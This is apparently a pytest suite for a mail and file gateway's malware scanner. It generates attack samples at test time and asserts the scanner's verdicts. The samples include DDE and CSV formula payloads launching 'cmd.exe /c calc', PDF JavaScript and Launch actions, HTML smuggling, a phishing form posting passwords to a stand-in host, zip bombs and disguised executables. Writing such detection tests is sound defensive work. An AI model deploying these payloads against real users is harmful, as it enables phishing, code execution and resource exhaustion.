"""The scan engine on real files of real formats, all made here at test time."""

from __future__ import annotations

import bz2
import io
import lzma
import struct
import tarfile
import threading
import zipfile
import zlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from gateway.scan.engine import FileReport, ScanConfigError, ScanLimits, Scanner, Verdict
from gateway.testing import eicar, zip_bomb
from tests.samples_builder import (
    make_docx,
    make_encrypted_pdf,
    make_nested_zips,
    make_odt,
    make_pdf,
    make_pdf_with_attachment,
    make_png,
    make_zip,
)


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner()


def symbols(report: FileReport) -> set[str]:
    return {f.symbol for f in report.findings}


PE = (b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x14C, 1)
      + bytes(200))
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(100)
MACHO = struct.pack("<IiiI", 0xFEEDFACF, 0x01000007, 3, 2) + bytes(100)
LNK = (bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)
       + "C:\\Windows\\System32\\cmd.exe /c calc".encode("utf-16-le"))


def iso_image() -> bytes:
    data = bytearray(40 * 1024)
    data[32769:32774] = b"CD001"
    return bytes(data)


def zipped(members: dict[str, bytes]) -> bytes:
    return make_zip(members)


def pdf(*objects: bytes) -> bytes:
    body = b"%PDF-1.4\n"
    for i, obj in enumerate(objects, start=1):
        body += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


# --- true type and names -------------------------------------------------------------

def test_eicar_is_malicious_through_yara(scanner: Scanner) -> None:
    report = scanner.scan_bytes("test.txt", eicar())
    assert report.verdict is Verdict.MALICIOUS
    assert any(f.symbol == "SCAN_YARA" and "EICAR" in f.reason.en for f in report.findings)
    assert "EICAR" in report.findings[0].reason.fr


@pytest.mark.parametrize(("name", "data"), [
    ("ordonnance.pdf", PE), ("photo.jpg", ELF), ("facture.pdf", MACHO),
])
def test_programs_disguised_as_documents_are_malicious(scanner: Scanner, name: str,
                                                       data: bytes) -> None:
    report = scanner.scan_bytes(name, data)
    assert report.verdict is Verdict.MALICIOUS
    assert {"SCAN_BANNED_TYPE", "SCAN_TYPE_MISMATCH"} <= symbols(report)
    assert report.mime != "application/pdf"  # the true type, not the name's


@pytest.mark.parametrize(("name", "data", "what"), [
    ("raccourci.lnk", LNK, "shortcut"), ("facture.pdf.lnk", LNK, "shortcut"),
    ("image.iso", iso_image(), "disk image"), ("copie.img", iso_image(), "disk image"),
    ("script.js", b"var s = 1;", "script"), ("maj.vbs", b"MsgBox 1", "script"),
    ("run.ps1", b"Write-Host 1", "script"), ("go.bat", b"echo off", "script"),
    ("go.cmd", b"echo off", "script"), ("page.hta", b"<html></html>", "script"),
    ("x.wsf", b"<job></job>", "script"), ("setup.msi", PE, "Windows program"),
    ("app.jar", zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}), "Java"),
    ("notes.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100), "OneNote"),
    ("aide.chm", b"ITSF\x03\x00\x00\x00`\x00\x00\x00" + bytes(100), "help"),
    ("ecran.scr", PE, "Windows program"), ("vieux.pif", b"x", "Windows program"),
])
def test_banned_types_by_content_or_extension(scanner: Scanner, name: str, data: bytes,
                                              what: str) -> None:
    report = scanner.scan_bytes(name, data)
    assert report.verdict is Verdict.MALICIOUS, report.findings
    banned = [f for f in report.findings if f.symbol == "SCAN_BANNED_TYPE"]
    assert banned and what.lower() in banned[0].reason.en.lower()


def test_banned_type_verdicts_depend_on_direction(scanner: Scanner) -> None:
    assert scanner.scan_bytes("cd.iso", iso_image()).verdict is Verdict.MALICIOUS
    out = scanner.scan_bytes("cd.iso", iso_image(), direction="outbound")
    assert out.verdict is Verdict.SUSPICIOUS


def test_double_extension_rtlo_and_spaces(scanner: Scanner) -> None:
    double = scanner.scan_bytes("ordonnance.pdf.exe", PE)
    assert "SCAN_DOUBLE_EXT" in symbols(double)
    rtlo = scanner.scan_bytes("facture\u202efdp.exe", PE)
    assert "SCAN_RTLO" in symbols(rtlo) and rtlo.verdict is Verdict.MALICIOUS
    spaces = scanner.scan_bytes("bilan.pdf" + " " * 40 + ".txt", b"bonjour")
    assert "SCAN_NAME_SPACES" in symbols(spaces) and spaces.verdict is Verdict.SUSPICIOUS
    # an ordinary dotted name is not a double extension
    assert scanner.scan_bytes("bilan.2024.01.pdf", make_pdf(["x"])).findings == []


def test_report_describes_the_true_type(scanner: Scanner) -> None:
    report = scanner.scan_bytes("scan.png", make_png())
    assert (report.mime, report.verdict, report.size) == ("image/png", Verdict.CLEAN,
                                                          len(make_png()))
    assert report.to_json()["verdict"] == "CLEAN"


# --- archives --------------------------------------------------------------------------

def test_eicar_in_nested_archives_is_found_with_its_path(scanner: Scanner) -> None:
    inner = zipped({"dossier/eicar.com": eicar()})
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        info = tarfile.TarInfo("factures/facture.zip")
        info.size = len(inner)
        tf.addfile(info, io.BytesIO(inner))
    report = scanner.scan_bytes("envoi.tar.gz", buf.getvalue())
    assert report.verdict is Verdict.MALICIOUS
    paths = {f.path for f in report.findings if f.symbol == "SCAN_YARA"}
    assert paths == {"envoi.tar.gz/envoi.tar/factures/facture.zip/dossier/eicar.com"}
    assert report.children == 3  # the tar, the zip, the file


@pytest.mark.parametrize("kind", ["gz", "bz2", "xz", "7z"])
def test_single_stream_compressors_and_7z(scanner: Scanner, kind: str) -> None:
    if kind == "gz":
        import gzip
        data = gzip.compress(eicar())
    elif kind == "bz2":
        data = bz2.compress(eicar())
    elif kind == "xz":
        data = lzma.compress(eicar())
    else:
        import py7zr
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as archive:
            archive.writestr(eicar(), "lisez-moi.txt")
        data = buf.getvalue()
    report = scanner.scan_bytes(f"archive.{kind}", data)
    assert report.verdict is Verdict.MALICIOUS
    assert "SCAN_YARA" in symbols(report)


def test_ten_gib_zip_bomb_is_given_up_at_once(scanner: Scanner) -> None:
    bomb = zip_bomb()  # 10 x 1 GiB of zeros, about 10 MB
    assert len(bomb) < 12 * 1024 * 1024
    report = scanner.scan_bytes("resultats.zip", bomb)
    assert report.verdict is Verdict.MALICIOUS
    assert "SCAN_BOMB" in symbols(report)


def test_bomb_whose_headers_lie_about_its_size_is_caught_while_inflating(
        scanner: Scanner) -> None:
    report = scanner.scan_bytes("sauvegarde.zip", zip_bomb(lie=True))
    assert symbols(report) == {"SCAN_BOMB"}
    assert report.children == 0
    generous = Scanner(ScanLimits(max_ratio=10 ** 9))  # no ratio: the size lie alone
    report = generous.scan_bytes("sauvegarde.zip", zip_bomb(2, 64 * 1024 * 1024, lie=True))
    assert symbols(report) == {"SCAN_BOMB"}
    assert "forged" in report.findings[0].reason.en


def test_bomb_that_hides_its_ratio_stops_at_the_byte_budget() -> None:
    limits = ScanLimits(max_ratio=10 ** 9, max_expanded=8 * 1024 * 1024)
    report = Scanner(limits).scan_bytes("resultats.zip", zip_bomb(2, 64 * 1024 * 1024))
    assert symbols(report) == {"SCAN_LIMIT"}
    assert report.verdict is Verdict.NOT_INSPECTED


def gzip_bomb(size: int) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(bytes(1 << 20)) + comp.flush(zlib.Z_FULL_FLUSH)
    body = block * (size >> 20) + comp.flush()
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body
            + struct.pack("<II", 0, size & 0xFFFFFFFF))


def test_gzip_bomb_without_declared_size_is_caught_by_its_ratio_while_reading(
        scanner: Scanner) -> None:
    report = scanner.scan_bytes("journal.log.gz", gzip_bomb(1024 ** 3))
    assert symbols(report) == {"SCAN_BOMB"}
    assert "ratio" in report.findings[0].reason.en


def test_overlapping_entries_bomb(scanner: Scanner) -> None:
    data = zipped({"a.txt": b"x" * 5000})
    eocd = data.rfind(b"PK\x05\x06")
    (cd_size, cd_offset) = struct.unpack_from("<II", data, eocd + 12)
    central = data[cd_offset:cd_offset + cd_size]
    copies = 50
    forged = (data[:cd_offset] + central * copies
              + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies,
                            cd_size * copies, cd_offset, 0))
    report = scanner.scan_bytes("x.zip", forged)
    assert "SCAN_BOMB" in symbols(report)
    assert "overlapping" in next(f for f in report.findings
                                 if f.symbol == "SCAN_BOMB").reason.en


def test_depth_and_file_count_limits() -> None:
    deep = Scanner(ScanLimits(max_depth=3)).scan_bytes("a.zip", make_nested_zips(6))
    assert symbols(deep) == {"SCAN_LIMIT"} and deep.verdict is Verdict.NOT_INSPECTED
    many = zipped({f"f{i}.txt": b"x" for i in range(30)})
    report = Scanner(ScanLimits(max_files=10)).scan_bytes("many.zip", many)
    assert "SCAN_LIMIT" in symbols(report)
    assert report.children <= 11


def test_encrypted_zip_and_unknown_archives(scanner: Scanner) -> None:
    locked = scanner.scan_bytes("photos.zip", make_zip({"a.jpg": b"x"}, password=True))
    assert symbols(locked) == {"SCAN_ENCRYPTED"}
    assert locked.verdict is Verdict.SUSPICIOUS
    assert "mot de passe" in locked.findings[0].reason.fr
    rar = scanner.scan_bytes("docs.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60))
    assert rar.verdict is Verdict.NOT_INSPECTED
    assert "non inspecté" in rar.findings[0].reason.fr


def test_corrupt_zip_is_not_inspected_not_an_error(scanner: Scanner) -> None:
    data = zipped({"a.txt": b"hello" * 100})
    broken = data[:40] + b"\0" * 20 + data[60:]
    report = scanner.scan_bytes("a.zip", broken)
    assert report.verdict in (Verdict.NOT_INSPECTED, Verdict.CLEAN)
    assert "SCAN_ERROR" not in symbols(report)


# --- Office ----------------------------------------------------------------------------

_CT = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
       b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')


def docx_with(document: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    return zipped({"[Content_Types].xml": _CT, "word/document.xml": document, **(extra or {})})


def test_docx_dde_field_split_across_runs(scanner: Scanner) -> None:
    doc = (b'<w:document xmlns:w="x"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           b'<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\'
           b'system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>')
    report = scanner.scan_bytes("courrier.docx", docx_with(doc))
    assert symbols(report) == {"SCAN_DDE"} and report.verdict is Verdict.MALICIOUS


def test_docx_remote_template_injection(scanner: Scanner) -> None:
    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="https://modeles.example/t.dotm" '
            b'TargetMode="External"/></Relationships>')
    doc = b'<w:document xmlns:w="x"><w:body/></w:document>'
    report = scanner.scan_bytes("courrier.docx", docx_with(
        doc, {"word/_rels/settings.xml.rels": rels}))
    assert symbols(report) == {"SCAN_REMOTE_TEMPLATE"}
    # an ordinary hyperlink to the outside is not one
    link = rels.replace(b"attachedTemplate", b"hyperlink")
    assert scanner.scan_bytes("c.docx", docx_with(doc, {"word/_rels/document.xml.rels": link})
                              ).findings == []


def test_xlsx_macro_sheet_and_odt_basic_macros(scanner: Scanner) -> None:
    xlsm = zipped({"[Content_Types].xml": _CT, "xl/workbook.xml": b"<workbook/>",
                   "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert "SCAN_XLM_MACRO" in symbols(scanner.scan_bytes("compta.xlsm", xlsm))
    odt = make_odt(["Bonjour"])
    buf = io.BytesIO(odt)
    with zipfile.ZipFile(buf, "a") as zf:
        zf.writestr("Basic/Standard/Module1.xml", "<script:module/>")
    report = scanner.scan_bytes("lettre.odt", buf.getvalue())
    assert symbols(report) == {"SCAN_VBA_MACRO"}


def test_rtf_dde_remote_template_and_csv_dde(scanner: Scanner) -> None:
    rtf = (rb'{\rtf1\ansi{\field{\*\fldinst {\rtlch DDEAUTO} "C:\\Windows\\System32\\cmd.exe" '
           rb'"/c calc"}{\fldrslt ok}}}')
    assert symbols(scanner.scan_bytes("note.rtf", rtf)) == {"SCAN_DDE"}
    template = rb"{\rtf1\ansi{\*\template https://x.example/t.dot}Bonjour}"
    assert symbols(scanner.scan_bytes("note.rtf", template)) == {"SCAN_REMOTE_TEMPLATE"}
    csv = b"nom;montant\nDurand;10\n=cmd|' /C calc'!A0;\n"
    assert symbols(scanner.scan_bytes("export.csv", csv)) == {"SCAN_DDE"}


SAMPLES = Path(__file__).resolve().parents[2].parent / "shared" / "samples" / "oletools" / (
    "tests/test-data")


def sample(rel: str) -> bytes:
    path = SAMPLES / rel
    if not path.is_file():
        pytest.skip(f"oletools samples not found at {SAMPLES} (../shared/samples/oletools)")
    data = path.read_bytes()
    if rel.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return zf.read(zf.namelist()[0], pwd=b"infected-test")
    return data


@pytest.mark.parametrize(("rel", "expected", "verdict"), [
    ("olevba/sample_with_vba.ppt", "SCAN_VBA_MACRO", Verdict.SUSPICIOUS),
    ("excel4-macros/excel4_sample_macro.xls", "SCAN_XLM_MACRO", Verdict.MALICIOUS),
    ("excel4-macros/excel4_sample_macro.xlsm", "SCAN_XLM_MACRO", Verdict.MALICIOUS),
    ("msodde/dde-test.docx", "SCAN_DDE", Verdict.MALICIOUS),
    ("msodde/dde-test.xlsx", "SCAN_DDE", Verdict.MALICIOUS),
    ("msodde/dde-test-from-office2003.doc.zip", "SCAN_DDE", Verdict.MALICIOUS),
    ("msodde/dde-in-excel2003.xml", "SCAN_DDE", Verdict.MALICIOUS),
    ("encrypted/encrypted.docx", "SCAN_ENCRYPTED", Verdict.SUSPICIOUS),
    ("encrypted/encrypted.doc", "SCAN_ENCRYPTED", Verdict.SUSPICIOUS),
    ("encrypted/encrypted.xls", "SCAN_ENCRYPTED", Verdict.SUSPICIOUS),
    ("oleobj/sample_with_lnk_file.doc", "SCAN_BANNED_TYPE", Verdict.MALICIOUS),
    ("oleobj/sample_with_calc_embedded.doc", "SCAN_BANNED_TYPE", Verdict.MALICIOUS),
    ("oleobj/embedded-simple-2007.docx", "SCAN_OLE_OBJECT", Verdict.SUSPICIOUS),
    ("oleobj/sample_with_lnk_file.ppt", "SCAN_BANNED_TYPE", Verdict.MALICIOUS),
    ("oleobj/embedded-simple-2007.ppt", "SCAN_OLE_OBJECT", Verdict.SUSPICIOUS),
    # review of issue 5: field codes in UTF-16, binary .xlsb links, ODF's "Object 1"
    ("msodde/dde-test-from-office2013-utf_16le-korean.doc.zip", "SCAN_DDE", Verdict.MALICIOUS),
    ("msodde/dde-test.xlsb", "SCAN_DDE", Verdict.MALICIOUS),
    ("oleobj/embedded-simple-2007.odt", "SCAN_OLE_OBJECT", Verdict.SUSPICIOUS),
    ("oleobj/embedded-simple-2007.ods", "SCAN_OLE_OBJECT", Verdict.SUSPICIOUS),
    ("oleobj/embedded-simple-2007.odp", "SCAN_OLE_OBJECT", Verdict.SUSPICIOUS),
    ("oleobj/embedded-simple-2007.xlsb", "SCAN_OLE_OBJECT", Verdict.SUSPICIOUS),
])
def test_oletools_samples(scanner: Scanner, rel: str, expected: str, verdict: Verdict) -> None:
    name = rel.rsplit("/", 1)[-1].removesuffix(".zip")
    report = scanner.scan_bytes(name, sample(rel))
    assert expected in symbols(report), report.findings
    assert report.verdict is verdict


@pytest.mark.parametrize("rel", ["msodde/harmless-clean.docx", "msodde/harmless-clean.doc",
                                 "msodde/harmless-clean.docm", "msodde/harmless-clean-2003.xml",
                                 "msodde/RTF-Spec-1.7.rtf"])
def test_oletools_harmless_samples_are_clean(scanner: Scanner, rel: str) -> None:
    report = scanner.scan_bytes(rel.rsplit("/", 1)[-1], sample(rel))
    assert report.verdict is Verdict.CLEAN, report.findings


# --- PDF -------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def test_pdf_javascript_at_opening_is_suspicious_and_malicious_when_hostile(
        scanner: Scanner) -> None:
    auto = pdf(CATALOG % b"/OpenAction 3 0 R", PAGES,
               b"<< /S /JavaScript /JS (app.alert\\('x'\\);) >>")
    report = scanner.scan_bytes("facture.pdf", auto)
    assert symbols(report) == {"SCAN_PDF_JS"} and report.verdict is Verdict.SUSPICIOUS
    hostile = pdf(CATALOG % b"/OpenAction 3 0 R", PAGES,
                  b"<< /S /JavaScript /JS (eval\\(unescape\\('%61%6c'\\)\\);) >>")
    assert scanner.scan_bytes("facture.pdf", hostile).verdict is Verdict.MALICIOUS
    names = pdf(CATALOG % b"/Names << /JavaScript 3 0 R >>", PAGES,
                b"<< /Names [(init) 4 0 R] >>", b"<< /S /JavaScript /JS (1+1) >>")
    report = scanner.scan_bytes("calcul.pdf", names)
    assert symbols(report) == {"SCAN_PDF_JS"} and report.verdict is Verdict.SUSPICIOUS
    assert "ouverture" in report.findings[0].reason.fr


def test_pdf_hex_escaped_names_and_object_streams(scanner: Scanner) -> None:
    escaped = pdf(CATALOG % b"/Open#41ction 3 0 R", PAGES,
                  b"<< /S /J#61vaScript /J#53 (eval\\(x\\)) >>")
    assert scanner.scan_bytes("a.pdf", escaped).verdict is Verdict.MALICIOUS
    hidden = zlib.compress(b"3 0 << /S /JavaScript /JS (app.launchURL\\('x'\\)) >>")
    objstm = (b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
              % len(hidden) + hidden + b"\nendstream")
    report = scanner.scan_bytes("b.pdf", pdf(CATALOG % b"/OpenAction 3 0 R", PAGES, objstm))
    assert symbols(report) == {"SCAN_PDF_JS"} and report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(("extra", "symbol", "verdict"), [
    (b"/OpenAction << /S /Launch /F (cmd.exe) >>", "SCAN_PDF_LAUNCH", Verdict.MALICIOUS),
    (b"/AcroForm << /XFA 3 0 R >>", "SCAN_PDF_XFA", Verdict.SUSPICIOUS),
    (b"/Annots [<< /Subtype /RichMedia >>]", "SCAN_PDF_RICHMEDIA", Verdict.SUSPICIOUS),
    (b"/OpenAction << /S /URI /URI (https://x.example) >>", "SCAN_PDF_ACTION",
     Verdict.SUSPICIOUS),
])
def test_pdf_active_content(scanner: Scanner, extra: bytes, symbol: str,
                            verdict: Verdict) -> None:
    report = scanner.scan_bytes("doc.pdf", pdf(CATALOG % extra, PAGES, b"<< >>"))
    assert symbols(report) == {symbol}
    assert report.verdict is verdict


def test_pdf_embedded_file_and_encryption(scanner: Scanner) -> None:
    # an embedded file is scanned as a file: a text is fine, a program is not
    attached = make_pdf_with_attachment(["Bilan"], "annexe.txt", b"texte")
    report = scanner.scan_bytes("bilan.pdf", attached)
    assert report.findings == [] and report.children == 1
    program = make_pdf_with_attachment(["Bilan"], "annexe.pdf.exe", PE)
    report = scanner.scan_bytes("bilan.pdf", program)
    assert report.verdict is Verdict.MALICIOUS
    assert {"SCAN_DOUBLE_EXT", "SCAN_BANNED_TYPE"} <= symbols(report)
    assert any(f.path == "bilan.pdf/annexe.pdf.exe" for f in report.findings)
    locked = scanner.scan_bytes("bilan.pdf", make_encrypted_pdf(user_password="secret"))
    assert symbols(locked) == {"SCAN_ENCRYPTED"} and locked.verdict is Verdict.SUSPICIOUS
    # restrictions only (opens without a password): not "encrypted" to the reader
    opened = scanner.scan_bytes("releve.pdf", make_encrypted_pdf(user_password=""))
    assert opened.verdict in (Verdict.CLEAN, Verdict.NOT_INSPECTED)


# --- HTML and SVG ----------------------------------------------------------------------

SMUGGLING = b"""<html><body><script>
var b64 = "TVqQAAMAAAAEAAAA";
var bin = atob(b64); var bytes = new Uint8Array(bin.length);
var blob = new Blob([bytes], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob);
a.download = "facture.iso"; document.body.appendChild(a); a.click();
</script></body></html>"""
PHISHING = b"""<html><body><form method="post" action="https://collect.example/p.php">
<input type="email" name="u"><input type="password" name="p"><button>Connexion</button>
</form></body></html>"""


def test_html_smuggling_phishing_form_and_redirect(scanner: Scanner) -> None:
    smuggling = scanner.scan_bytes("facture.html", SMUGGLING)
    assert "SCAN_HTML_SMUGGLING" in symbols(smuggling)
    assert smuggling.verdict is Verdict.MALICIOUS
    phishing = scanner.scan_bytes("ameli.htm", PHISHING)
    assert symbols(phishing) == {"SCAN_HTML_FORM"} and phishing.verdict is Verdict.MALICIOUS
    refresh = b'<html><head><meta http-equiv="refresh" content="0; url=https://x.example/">'
    assert symbols(scanner.scan_bytes("lien.html", refresh)) == {"SCAN_HTML_REDIRECT"}
    svg = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
           b'<script>window.location="https://x.example"</script></svg>')
    assert "SCAN_HTML_SCRIPT" in symbols(scanner.scan_bytes("logo.svg", svg))


def test_ordinary_html_newsletter_is_clean(scanner: Scanner) -> None:
    page = (b"<!DOCTYPE html><html><head><title>Lettre</title></head><body><h1>Infos</h1>"
            b'<p>Formation le 12 mars, <a href="https://ordre.example/inscription">inscription'
            b'</a>.</p><img src="https://ordre.example/logo.png" alt="logo"></body></html>')
    assert scanner.scan_bytes("lettre.html", page).findings == []


# --- YARA rules: local folder, broken rules, reload ------------------------------------

RULE = 'rule local_marker {{ meta: verdict = "{verdict}" fr = "marqueur local" en = "local ' \
       'marker" strings: $a = "{marker}" condition: $a }}\n'


def test_local_rules_folder_is_used_and_reload_keeps_old_rules_on_error(tmp_path: Path) -> None:
    (tmp_path / "cabinet.yar").write_text(RULE.format(verdict="suspicious", marker="ALPHA-42"))
    scanner = Scanner(yara_dir=str(tmp_path))
    report = scanner.scan_bytes("a.txt", b"hello ALPHA-42")
    assert report.verdict is Verdict.SUSPICIOUS and "local marker" in report.findings[0].reason.en
    # a new rule is picked up by reload()
    (tmp_path / "cabinet.yar").write_text(RULE.format(verdict="malicious", marker="BETA-7"))
    scanner.reload()
    assert scanner.scan_bytes("a.txt", b"BETA-7").verdict is Verdict.MALICIOUS
    # a broken rule set is refused with its file and line; the rules in force stay
    (tmp_path / "cabinet.yar").write_text("rule ok { condition: true }\n\nrule broken {\n"
                                          "  condition: true and and\n}\n")
    with pytest.raises(ScanConfigError) as err:
        scanner.reload()
    assert err.value.file is not None and err.value.file.endswith("cabinet.yar")
    assert err.value.line == 4
    assert "ligne 4" in str(err.value) and "line 4" in str(err.value)
    assert scanner.scan_bytes("a.txt", b"BETA-7").verdict is Verdict.MALICIOUS
    with pytest.raises(ScanConfigError):
        Scanner(yara_dir=str(tmp_path))


# --- ClamAV (a fake clamd on a real unix socket) ----------------------------------------

class FakeClamd:
    def __init__(self, path: Path, reply: bytes) -> None:
        import socket
        self.reply = reply
        self.received = b""
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind(str(path))
        self.sock.listen(4)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                data = b""
                while not data.endswith(b"\0\0\0\0"):
                    got = conn.recv(65536)
                    if not got:
                        break
                    data += got
                self.received = data
                conn.sendall(self.reply)

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def clamd(tmp_path: Path) -> Iterator[tuple[Path, FakeClamd]]:
    path = tmp_path / "clamd.sock"
    fake = FakeClamd(path, b"stream: Win.Test.EICAR_HDB-1 FOUND\0")
    yield path, fake
    fake.close()


def test_clamav_when_configured_and_when_unreachable(clamd: tuple[Path, FakeClamd],
                                                      tmp_path: Path) -> None:
    path, fake = clamd
    report = Scanner(clamd=str(path), clamd_timeout=5).scan_bytes("x.bin", b"some bytes")
    assert symbols(report) == {"SCAN_CLAMAV"} and report.verdict is Verdict.MALICIOUS
    assert "Win.Test.EICAR_HDB-1" in report.findings[0].reason.en
    assert fake.received.startswith(b"zINSTREAM\0") and b"some bytes" in fake.received
    gone = Scanner(clamd=str(tmp_path / "absent.sock")).scan_bytes("x.bin", b"x")
    assert symbols(gone) == {"SCAN_CLAMAV_UNAVAILABLE"}
    assert gone.verdict is Verdict.CLEAN  # a note: the other engines' verdict stands
    assert Scanner().scan_bytes("x.bin", b"x").findings == []  # not configured: nothing


# --- files on disk, threads ------------------------------------------------------------

def test_scan_path_reads_small_files_whole_and_big_zips_in_place(tmp_path: Path) -> None:
    small = tmp_path / "facture.pdf.exe"
    small.write_bytes(PE)
    assert "SCAN_DOUBLE_EXT" in symbols(Scanner().scan_path(small))
    big = tmp_path / "archive.zip"
    big.write_bytes(zipped({"a/eicar.txt": eicar(), "b.bin": bytes(4096)}))
    scanner = Scanner()
    scanner.whole_file = 1024  # as if the zip were bigger than what is read whole
    report = scanner.scan_path(big)
    assert report.verdict is Verdict.MALICIOUS
    assert {f.path for f in report.findings} == {"archive.zip/a/eicar.txt"}


def test_scanner_is_thread_safe(scanner: Scanner) -> None:
    files = [("a.pdf", make_pdf(["x"])), ("b.txt", eicar()), ("c.docx", make_docx(["y"])),
             ("d.zip", zipped({"e.com": eicar()}))] * 8
    with ThreadPoolExecutor(4) as pool:
        reports = list(pool.map(lambda f: scanner.scan_bytes(*f), files))
    assert [r.verdict for r in reports] == [
        Verdict.CLEAN, Verdict.MALICIOUS, Verdict.CLEAN, Verdict.MALICIOUS] * 8


def test_7z_bomb_declared_and_while_expanding() -> None:
    import py7zr
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        archive.writestr(bytes(16 * 1024 * 1024), "zeros.bin")
    data = buf.getvalue()
    # 16 MiB at a high ratio: a bomb only past the byte budget
    assert Scanner().scan_bytes("x.7z", data).findings == []
    small = Scanner(ScanLimits(max_expanded=8 * 1024 * 1024))
    assert symbols(small.scan_bytes("x.7z", data)) == {"SCAN_BOMB"}
    # the declared sizes are not trusted: the writer counts what really comes out
    hidden = Scanner(ScanLimits(max_ratio=10 ** 9, max_expanded=4 * 1024 * 1024))
    assert symbols(hidden.scan_bytes("x.7z", data)) == {"SCAN_LIMIT"}


def test_common_harmless_mismatches_are_not_flagged(scanner: Scanner) -> None:
    rtf_as_doc = scanner.scan_bytes("courrier.doc", rb"{\rtf1\ansi Bonjour\par}")
    assert rtf_as_doc.findings == []
    html_as_xls = scanner.scan_bytes("export.xls", b"<html><body><table><tr><td>1</td></tr>"
                                                   b"</table></body></html>")
    assert html_as_xls.findings == []
    zip_as_rar = scanner.scan_bytes("photos.rar", zipped({"a.txt": b"x"}))
    assert zip_as_rar.findings == []


def test_banned_types_file_errors_and_fallback(tmp_path: Path) -> None:
    (tmp_path / "banned_types.toml").write_text(
        '[types.x]\nfr = "x"\nen = "x"\nextensions = ["exe"]\ninbound = "forbidden"\n')
    with pytest.raises(ScanConfigError) as err:
        Scanner(rules_dir=tmp_path)
    assert "[types.x]" in str(err.value) and "malicious" in str(err.value)
    (tmp_path / "banned_types.toml").write_text("[types.x\n")
    with pytest.raises(ScanConfigError) as err:
        Scanner(rules_dir=tmp_path)
    assert err.value.line == 1
    # a rules folder without the file (made before it existed) uses the shipped one
    other = tmp_path / "old-rules"
    other.mkdir()
    assert Scanner(rules_dir=other).scan_bytes("a.exe", PE).verdict is Verdict.MALICIOUS
    # a local list can allow a type per direction
    (tmp_path / "banned_types.toml").write_text(
        '[types.iso]\nkinds = ["iso"]\nextensions = ["iso"]\ninbound = "malicious"\n'
        'outbound = "allow"\n')
    local = Scanner(rules_dir=tmp_path)
    assert local.scan_bytes("cd.iso", iso_image(), direction="outbound").findings == []
    assert local.scan_bytes("cd.iso", iso_image(), direction="file").verdict is Verdict.MALICIOUS


def _ole1(class_name: bytes, payload: bytes) -> bytes:
    """An OLE 1.0 embedded object, as RTF's \\objdata holds it."""
    name = class_name + b"\0"
    return (struct.pack("<III", 0x0501, 2, len(name)) + name + struct.pack("<III", 0, 0,
            len(payload)) + payload)


def _package(filename: bytes, data: bytes) -> bytes:
    """An OLE "Package" (a file dropped into a document): name, paths, then the bytes."""
    temp = b"C:\\Temp\\" + filename + b"\0"
    return (struct.pack("<H", 2) + filename + b"\0" + b"C:\\Docs\\" + filename + b"\0"
            + bytes(8) + temp + struct.pack("<I", len(data)) + data)


def _rtf_object(class_name: str, objdata: bytes) -> bytes:
    return (r"{\rtf1\ansi{\object\objemb{\*\objclass " + class_name + r"}\objw100\objh100"
            r"{\*\objdata " + objdata.hex() + "}}}").encode()


def test_rtf_equation_object_and_embedded_program(scanner: Scanner) -> None:
    equation = _rtf_object("Equation.3", _ole1(b"Equation.3", b"\x1c\x00" + bytes(60)))
    report = scanner.scan_bytes("devis.rtf", equation)
    assert symbols(report) == {"SCAN_OLE_OBJECT"} and report.verdict is Verdict.MALICIOUS
    package = _rtf_object("Package", _ole1(b"Package", _package(b"facture.exe", PE)))
    report = scanner.scan_bytes("devis.rtf", package)
    assert report.verdict is Verdict.MALICIOUS
    assert "devis.rtf/facture.exe" in {f.path for f in report.findings
                                       if f.symbol == "SCAN_BANNED_TYPE"}
